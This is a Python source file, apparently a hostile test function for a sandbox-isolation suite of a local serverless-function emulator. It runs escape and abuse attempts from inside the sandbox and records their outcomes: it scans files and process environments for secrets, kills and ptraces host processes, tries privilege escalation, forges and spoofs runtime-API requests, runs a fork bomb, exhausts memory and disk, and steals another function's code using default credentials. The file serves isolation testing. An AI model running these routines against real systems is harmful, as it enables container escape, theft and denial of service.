"""A hostile Python function for the sandbox suite (runs INSIDE an environment; 3.6+).

Each event names an attack in "attack"; the answer reports what every attempt met ("ok" or
the errno name), so that the test on the host can judge it.
"""

import ctypes
import errno
import os
import signal
import socket
import subprocess
import sys
import time

PTRACE_ATTACH = 16
PTRACE_SEIZE = 0x4206


def name_of(err):
    if isinstance(err, OSError) and err.errno is not None:
        return errno.errorcode.get(err.errno, str(err.errno))
    return "%s: %s" % (type(err).__name__, err)


def attempt(fn):
    try:
        value = fn()
        if isinstance(value, bytes):
            value = value[:200].decode("latin1")
        elif isinstance(value, str):
            value = value[:200]
        return {"outcome": "ok", "value": value}
    except Exception as err:  # noqa: BLE001 - every failure is an answer here
        return {"outcome": name_of(err)}


def read(path, mode="rb"):
    with open(path, mode) as f:
        return f.read()


def pids():
    return sorted(int(n) for n in os.listdir("/proc") if n.isdigit())


def walk(root, skip, visit):
    """Every path under root that lstat can see, not following symlinks."""
    todo = [root]
    seen = 0
    while todo and seen < 300000:
        d = todo.pop()
        try:
            names = os.listdir(d)
        except OSError:
            continue
        for name in names:
            p = os.path.join(d, name)
            if p in skip:
                continue
            seen += 1
            try:
                st = os.lstat(p)
            except OSError:
                continue
            if os.path.isdir(p) and not os.path.islink(p):
                todo.append(p)
            else:
                visit(p, st)
    return seen


def snoop(e):
    direct = {}
    for p in e["paths"]:
        direct[p] = attempt(lambda p=p: ",".join(os.listdir(p)) if os.path.isdir(p) else read(p))
    proc = {}
    for pid in pids():
        for link in ("root", "cwd"):
            key = "/proc/%d/%s" % (pid, link)
            proc[key] = attempt(lambda key=key: os.readlink(key))
        key = "/proc/%d/environ" % pid
        proc[key] = attempt(lambda key=key: read(key))
        for p in e["paths"]:
            key = "/proc/%d/root%s" % (pid, p)
            proc[key] = attempt(lambda key=key: ",".join(os.listdir(key)) if os.path.isdir(key) else read(key))
        key = "/proc/%d/root/tmp/%s" % (pid, e["secretName"])
        proc[key] = attempt(lambda key=key: read(key))
    found = []
    sqlite = []
    markers = [m.encode() for m in e["markers"]]

    def visit(p, st):
        for m in e["markers"]:
            if m in p:
                found.append({"path": p, "marker": m, "in": "name"})
        if not os.path.isfile(p) or os.path.islink(p) or st.st_size > 4 * 1024 * 1024:
            return
        try:
            data = read(p)
        except OSError:
            return
        if data[:16] == b"SQLite format 3\x00":
            sqlite.append(p)
        for m in markers:
            if m in data:
                found.append({"path": p, "marker": m.decode(), "in": "content"})

    # The interpreter's own prefix (read-only, shared by every function of this runtime) is
    # searched by name only: it is large.
    prefix = sys.base_prefix
    checked = walk("/", ["/proc", "/sys", "/usr", prefix], visit)
    checked += walk(prefix, [], lambda p, st: [found.append({"path": p, "marker": m, "in": "name"}) for m in e["markers"] if m in p])
    own_env = [k for k in os.environ if k.startswith("LAMINA_")]
    return {"direct": direct, "proc": proc, "found": found, "sqlite": sqlite, "checked": checked, "ownEnv": own_env, "uid": os.getuid()}


def status_of(pid):
    out = {}
    try:
        for line in read("/proc/%d/status" % pid, "r").splitlines():
            k, _, v = line.partition(":")
            out[k] = v.strip()
    except OSError:
        pass
    return out


def signals(e):
    visible = []
    for pid in pids():
        st = status_of(pid)
        visible.append({"pid": pid, "uid": int(st.get("Uid", "-1").split()[0]), "name": st.get("Name")})
    kills = {}

    def send(label, pid, sig):
        kills[label] = attempt(lambda: os.kill(pid, sig))

    send("server %d probe" % e["serverPid"], e["serverPid"], 0)
    send("server %d SIGKILL" % e["serverPid"], e["serverPid"], signal.SIGKILL)
    for pid in e["hostPids"]:
        send("host %d SIGKILL" % pid, pid, signal.SIGKILL)
    send("pid 1 SIGKILL", 1, signal.SIGKILL)
    send("pid 1 SIGSTOP", 1, signal.SIGSTOP)
    send("pid -1 SIGKILL", -1, signal.SIGKILL)
    return {"visible": visible, "kills": kills, "self": os.getpid(), "uid": os.getuid()}


def ptrace(e):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.restype = ctypes.c_long
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]

    def trace(request, pid):
        ctypes.set_errno(0)
        r = libc.ptrace(request, pid, None, None)
        if r == -1:
            return errno.errorcode.get(ctypes.get_errno(), str(ctypes.get_errno()))
        libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
        return "ok"

    out = {}
    for label, pid in [("pid 1", 1), ("server", e["serverPid"])] + [("host %d" % p, p) for p in e["hostPids"]]:
        out["attach " + label] = trace(PTRACE_ATTACH, pid)
        out["seize " + label] = trace(PTRACE_SEIZE, pid)
    out["/proc/1/mem"] = attempt(lambda: read("/proc/1/mem"))["outcome"]
    return out


def privileges():
    st = status_of(os.getpid())
    tries = {}
    tries["setuid"] = attempt(lambda: os.setuid(0))
    tries["setgid"] = attempt(lambda: os.setgid(0))
    tries["seteuid"] = attempt(lambda: os.seteuid(0))
    tries["setresuid"] = attempt(lambda: os.setresuid(0, 0, 0))
    tries["setgroups"] = attempt(lambda: os.setgroups([0]))
    tries["chroot"] = attempt(lambda: os.chroot("/tmp"))
    tries["setuid mount"] = attempt(
        lambda: subprocess.check_output(["/usr/bin/mount", "-t", "tmpfs", "none", "/tmp"], stderr=subprocess.STDOUT, stdin=subprocess.DEVNULL)
    )
    return {
        "uid": os.getuid(),
        "gid": os.getgid(),
        "euid": os.geteuid(),
        "groups": os.getgroups(),
        "Uid": st.get("Uid"),
        "Gid": st.get("Gid"),
        "CapEff": st.get("CapEff"),
        "CapPrm": st.get("CapPrm"),
        "CapBnd": st.get("CapBnd"),
        "CapAmb": st.get("CapAmb"),
        "NoNewPrivs": st.get("NoNewPrivs"),
        "idAfter": subprocess.check_output(["/usr/bin/id", "-u"]).decode().strip(),
        "tries": tries,
    }


def exchange(port, request, source=None):
    """One raw HTTP exchange: the status received, or how the connection ended without one."""
    data = b""
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(10)  # a loaded host may take seconds to refuse
    try:
        if source:
            s.bind(source)
        s.connect(("127.0.0.1", port))
        s.sendall(request)
        while b"\r\n\r\n" not in data:
            chunk = s.recv(4096)
            if not chunk:
                break
            data += chunk
    except ConnectionRefusedError:
        return {"outcome": "refused", "event": False}
    except (ConnectionResetError, BrokenPipeError):
        pass
    except socket.timeout:
        if not data:
            return {"outcome": "timeout", "event": False}
    finally:
        s.close()
    if not data:
        return {"outcome": "reset", "event": False}
    text = data.decode("latin1")
    return {"outcome": "http " + text.split(" ")[1], "event": "lambda-runtime-aws-request-id" in text.lower(), "head": text.split("\r\n")[0]}


def listening_ports():
    ports = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            lines = read(table, "r").splitlines()[1:]
        except OSError:
            continue
        for line in lines:
            f = line.split()
            if len(f) < 4 or f[3] != "0A":
                continue
            addr, port = f[1].split(":")
            if addr == "0100007F":
                ports.add(int(port, 16))
    return sorted(ports)


def runtime_api(e):
    own = int(os.environ["AWS_LAMBDA_RUNTIME_API"].split(":")[1])
    discovered = listening_ports()
    results = {}
    body = b'{"forged":true}'

    def post(what):
        return b"POST /2018-06-01/runtime/" + what.encode() + b" HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n" % len(body) + body

    for port in discovered:
        if port == own or port not in e["ports"]:
            continue
        results[str(port)] = {
            "next": exchange(port, b"GET /2018-06-01/runtime/invocation/next HTTP/1.1\r\nHost: x\r\n\r\n"),
            "response": exchange(port, post("invocation/%s/response" % e["id"])),
            "error": exchange(port, post("invocation/%s/error" % e["id"])),
            "initError": exchange(port, post("init/error")),
        }
    # Impersonation: connect from the very port of the neighbour runtime's own connection to
    # its endpoint (visible in /proc/net/tcp), bound on other loopback addresses.
    spoofed = []
    me = os.getuid()
    rows = [line.split() for line in read("/proc/net/tcp", "r").splitlines()[1:]]
    for port in e.get("spoofPorts") or [int(p) for p in results]:
        for f in rows:
            if len(f) < 8 or f[2] != "0100007F:%04X" % port or f[3] != "01" or int(f[7]) == me:
                continue
            local_port = int(f[1].split(":")[1], 16)
            for a in range(2, 2 + e.get("spoofAddresses", 8)):
                spoofed.append({
                    "port": port,
                    "theirUid": int(f[7]),
                    "from": "127.0.0.%d:%d" % (a, local_port),
                    "response": exchange(port, post("invocation/%s/response" % e["id"]), ("127.0.0.%d" % a, local_port)),
                    "next": exchange(port, b"GET /2018-06-01/runtime/invocation/next HTTP/1.1\r\nHost: x\r\n\r\n", ("127.0.0.%d" % (a + 100), local_port)),
                })
    return {"own": own, "discovered": discovered, "results": results, "spoofed": spoofed}


def fork_bomb():
    """Every process forks for ever; refused forks (the pids limit) are retried after a nap.
    The runtime itself, once refused, says so in the log and exits soon after (ending the
    invocation: the test need not wait for its timeout, however slow the host)."""
    runtime = os.getpid()
    while True:
        try:
            os.fork()
        except OSError as err:
            if os.getpid() == runtime:
                print("FORK-REFUSED %s" % name_of(err), flush=True)
                time.sleep(0.5)
                os._exit(3)
            time.sleep(0.05)


def oom():
    hold = []
    while True:
        hold.append(bytearray(8 * 1024 * 1024))
        for i in range(0, len(hold[-1]), 4096):
            hold[-1][i] = 1


def fill(e):
    path = "/tmp/fill"
    chunk = b"Z" * (1024 * 1024)
    written = 0
    code = None
    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
    try:
        for _ in range(e["mb"]):
            os.write(fd, chunk)
            written += 1
        os.fsync(fd)
    except OSError as err:
        code = name_of(err)
    finally:
        os.close(fd)
    size = os.path.getsize(path)
    os.remove(path)
    return {"written": written, "code": code, "size": size}


def read_only():
    tries = {}

    def t(label, fn):
        tries[label] = attempt(fn)["outcome"]

    def write(path, how="w"):
        with open(path, how) as f:
            f.write("x")

    t("/var/task/new", lambda: write("/var/task/new"))
    t("/var/task/attacker.py", lambda: write("/var/task/attacker.py", "a"))
    t("/var/task mkdir", lambda: os.mkdir("/var/task/d"))
    t("/var/task chmod", lambda: os.chmod("/var/task/attacker.py", 0o777))
    t("/var/runtime", lambda: write("/var/runtime/new"))
    t("/", lambda: write("/new"))
    t("/ mkdir", lambda: os.mkdir("/new-dir"))
    t("/usr", lambda: write("/usr/new"))
    t("/usr/bin/python3", lambda: write(os.path.realpath(sys.executable), "a"))
    t("/etc/passwd", lambda: write("/etc/passwd", "a"))
    t("/etc/new", lambda: write("/etc/new"))
    t("/opt", lambda: write("/opt/new"))
    t("interpreter prefix", lambda: write(os.path.join(sys.base_prefix, "new")))
    t("/tmp (allowed)", lambda: write("/tmp/fine"))
    return tries


def api_steal(e):
    """Calls Lamina's own API on loopback with the well-known default credentials (test/test),
    signing by hand (SigV4), to download another function's code (GetFunction, Code.Location)."""
    import datetime
    import hashlib
    import hmac
    import io
    import json
    import urllib.error
    import urllib.request
    import zipfile

    def mac(key, msg):
        return hmac.new(key, msg.encode(), hashlib.sha256).digest()

    host = e["url"].split("//")[1]
    path = "/2015-03-31/functions/%s" % e["victim"]
    now = datetime.datetime.utcnow()
    amz, day = now.strftime("%Y%m%dT%H%M%SZ"), now.strftime("%Y%m%d")
    empty = hashlib.sha256(b"").hexdigest()
    canonical = "GET\n%s\n\nhost:%s\nx-amz-content-sha256:%s\nx-amz-date:%s\n\nhost;x-amz-content-sha256;x-amz-date\n%s" % (path, host, empty, amz, empty)
    scope = "%s/us-east-1/lambda/aws4_request" % day
    to_sign = "AWS4-HMAC-SHA256\n%s\n%s\n%s" % (amz, scope, hashlib.sha256(canonical.encode()).hexdigest())
    key = mac(mac(mac(mac(b"AWS4" + e["secret"].encode(), day), "us-east-1"), "lambda"), "aws4_request")
    auth = "AWS4-HMAC-SHA256 Credential=%s/%s, SignedHeaders=host;x-amz-content-sha256;x-amz-date, Signature=%s" % (
        e["key"], scope, hmac.new(key, to_sign.encode(), hashlib.sha256).hexdigest())
    req = urllib.request.Request(e["url"] + path, headers={"x-amz-date": amz, "x-amz-content-sha256": empty, "Authorization": auth})
    try:
        location = json.loads(urllib.request.urlopen(req, timeout=5).read().decode())["Code"]["Location"]
        archive = zipfile.ZipFile(io.BytesIO(urllib.request.urlopen(location, timeout=5).read()))
        return {"outcome": "ok", "files": {n: archive.read(n).decode("latin1") for n in archive.namelist()}}
    except urllib.error.HTTPError as err:
        return {"outcome": "http %d" % err.code}
    except Exception as err:  # noqa: BLE001
        return {"outcome": name_of(err)}


def handler(e, context):
    a = e["attack"]
    if a == "whoami":
        return {"uid": os.getuid(), "api": os.environ["AWS_LAMBDA_RUNTIME_API"], "pid": os.getpid(), "version": sys.version.split()[0]}
    if a == "snoop":
        return snoop(e)
    if a == "signals":
        return signals(e)
    if a == "ptrace":
        return ptrace(e)
    if a == "privileges":
        return privileges()
    if a == "runtime-api":
        return runtime_api(e)
    if a == "api-steal":
        return api_steal(e)
    if a == "fork-bomb":
        fork_bomb()
    if a == "oom":
        oom()
    if a == "fill":
        return fill(e)
    if a == "read-only":
        return read_only()
    if a == "statfs":
        s = os.statvfs("/tmp")
        return {"bytes": s.f_blocks * s.f_frsize, "free": s.f_bavail * s.f_frsize}
    raise ValueError("unknown attack " + a)
